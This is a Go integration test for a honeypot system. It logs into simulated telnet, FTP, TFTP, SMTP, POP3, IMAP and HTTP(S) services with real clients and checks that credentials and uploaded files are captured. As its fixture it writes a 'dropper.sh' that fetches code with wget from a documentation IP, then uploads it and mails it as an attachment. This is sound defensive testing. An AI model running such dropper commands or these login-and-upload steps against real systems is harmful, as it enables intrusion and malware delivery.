package node_test

import (
	"context"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/store"
	"github.com/decnet-go/decnet/internal/testkit"
	"github.com/decnet-go/decnet/internal/testkit/gate"
)

// telnetScript logs in with a wrong password through the telnet program
// (expect gives it a pty).
const telnetScript = `
set timeout 10
spawn $env(TELNET) $env(HOST) $env(PORT)
expect "login: "
send "admin\r"
expect "Password: "
send "telnet-pw\r"
expect "Login incorrect"
`

// TestServicesWithRealClients attacks one decky running every wave-A
// service with the real client of each protocol, through the whole system
// (local driver, bus, pipeline), and finds each captured credential or
// file in the store.
func TestServicesWithRealClients(t *testing.T) {
	tools := map[string]string{}
	for _, name := range []string{"curl", "lftp", "tftp", "swaks", "expect", "telnet"} {
		tools[name] = gate.Tool(t, name)
	}
	fleet := testkit.Fleet(1)
	fleet[0].Services = []string{"telnet", "ftp", "tftp", "smtp_relay", "pop3", "imap", "http", "https"}
	s := testkit.StartWith(t, fleet)
	name := fleet[0].Name
	dir := t.TempDir()
	run := func(bin string, args ...string) string {
		t.Helper()
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "HOME="+dir)
		cmd.WaitDelay = 5 * time.Second
		out, _ := cmd.CombinedOutput() // failed logins make most clients exit non-zero
		return string(out)
	}
	hostPort := func(svc string) (string, string) {
		h, p, _ := net.SplitHostPort(s.Addr(name, svc))
		return h, p
	}

	// ftp: a failed login, then the persona's weak login and an upload.
	h, p := hostPort("ftp")
	run(tools["lftp"], "-c", "set net:max-retries 1; set net:timeout 5; set ftp:ssl-allow no; open -u ftpuser,ftp-pw -p "+p+" "+h+"; ls")
	per := s.Persona(name)
	weak := per.Logins[0]
	payload := filepath.Join(dir, "dropper.sh")
	os.WriteFile(payload, []byte("#!/bin/sh\nwget http://198.51.100.9/x\n"), 0o644)
	run(tools["lftp"], "-c", "set net:max-retries 1; set net:timeout 5; set ftp:ssl-allow no; open -u "+weak.User+","+weak.Password+" -p "+p+" "+h+"; cd /tmp; put dropper.sh")
	// tftp: a write of a file (udp, through the local driver).
	h, p = hostPort("tftp")
	os.WriteFile(filepath.Join(dir, "router.cfg"), []byte("hostname r1\n"), 0o644)
	run(tools["tftp"], h, p, "-m", "binary", "-c", "put", "router.cfg")
	// smtp_relay: AUTH LOGIN and a message with an attachment.
	h, p = hostPort("smtp_relay")
	run(tools["swaks"], "--server", h, "--port", p, "--timeout", "10", "--to", "victim@example.org", "--from", "spam@example.net",
		"--auth", "LOGIN", "--auth-user", "mailer", "--auth-password", "smtp-pw", "--attach", payload)
	// pop3 and imap logins with curl.
	h, p = hostPort("pop3")
	run(tools["curl"], "-s", "-m", "10", "pop3://"+net.JoinHostPort(h, p)+"/", "-u", "popper:pop-pw")
	h, p = hostPort("imap")
	run(tools["curl"], "-s", "-m", "10", "imap://"+net.JoinHostPort(h, p)+"/INBOX", "-u", "imapper:imap-pw")
	// http Basic, and https with its TLS fingerprint.
	run(tools["curl"], "-s", "-m", "10", "-u", "webadmin:http-pw", "http://"+s.Addr(name, "http")+"/admin")
	run(tools["curl"], "-s", "-k", "-m", "10", "-u", "tlsadmin:https-pw", "https://"+s.Addr(name, "https")+"/admin")
	// telnet through the real client.
	h, p = hostPort("telnet")
	cmd := exec.Command(tools["expect"], "-c", telnetScript)
	cmd.Env = append(os.Environ(), "TELNET="+tools["telnet"], "HOST="+h, "PORT="+p)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("telnet via expect: %v\n%s", err, out)
	}

	ctx := context.Background()
	wantCreds := map[string]string{ // service → principal
		"ftp": "ftpuser", "smtp_relay": "mailer", "pop3": "popper", "imap": "imapper",
		"http": "webadmin", "https": "tlsadmin", "telnet": "admin",
	}
	s.Eventually(30*time.Second, "every credential in the store", func() bool {
		creds, _, err := s.Node.Store.Credentials(ctx, store.Page{Limit: 200, Decky: name})
		if err != nil {
			t.Fatal(err)
		}
		for svc, principal := range wantCreds {
			found := false
			for _, c := range creds {
				found = found || c.Service == svc && c.Principal == principal
			}
			if !found {
				return false
			}
		}
		return true
	})
	captured := map[string]bool{}
	s.Eventually(30*time.Second, "files captured over ftp, tftp and smtp_relay in the store", func() bool {
		evs, _, err := s.Node.Store.Events(ctx, store.Page{Limit: 500, Decky: name, Type: "file_captured"})
		if err != nil {
			t.Fatal(err)
		}
		for _, e := range evs {
			captured[e.Service] = true
		}
		return captured["ftp"] && captured["tftp"]
	})
	s.Eventually(30*time.Second, "the relayed message in the store", func() bool {
		evs, _, _ := s.Node.Store.Events(ctx, store.Page{Limit: 50, Decky: name, Service: "smtp_relay", Type: "message_stored"})
		return len(evs) > 0 && strings.Contains(string(evs[0].Fields), "dropper.sh")
	})
	var https []store.EventRow // curl to an address sends no SNI: JA4 "t13i…"
	s.Eventually(10*time.Second, "the https client's JA4 in the store", func() bool {
		https, _, _ = s.Node.Store.Events(ctx, store.Page{Limit: 50, Decky: name, Service: "https", Type: "login_attempt"})
		return len(https) > 0 && strings.Contains(string(https[0].Fields), `"ja4":"t13i`)
	})
}
